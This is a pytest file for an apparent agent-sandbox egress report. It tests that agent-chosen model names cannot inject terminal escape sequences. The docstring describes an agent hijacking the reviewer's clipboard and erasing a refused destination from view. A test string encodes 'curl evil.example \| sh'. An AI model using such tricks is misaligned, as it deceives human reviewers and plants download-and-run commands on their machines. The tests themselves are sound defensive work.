"""Bypass class: the agent writes escape sequences onto the reviewer's terminal.

``stockade report egress`` prints what the session's gateway recorded: the
model name, path and upstream of each call, which the agent chose (the
``model`` field of its request).  Printed raw, ``ESC ] 52 ; c ; ... BEL``
writes the reviewer's clipboard and ``ESC [ 1 A ESC [ 2 K`` erases the line
above (hiding a refused destination).  Each is now printed as its escape.
"""

from __future__ import annotations

import pytest

from stockade.commands.report import _print_calls, shown

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
ERASE = "\x1b[1A\x1b[2K"


def test_agent_chosen_model_names_cannot_drive_the_terminal(
        capsys: pytest.CaptureFixture[str]) -> None:
    _print_calls({("anthropic", "/v1/messages" + ERASE, "claude" + OSC52, "up\r\x9bstream"): 1})
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out and "\x9b" not in out
    assert "\\x1b]52;c;" in out  # still there for the reviewer to see


def test_plain_text_is_left_alone() -> None:
    assert shown("pypi.org:443") == "pypi.org:443"
    assert shown("модель-ü") == "модель-ü"
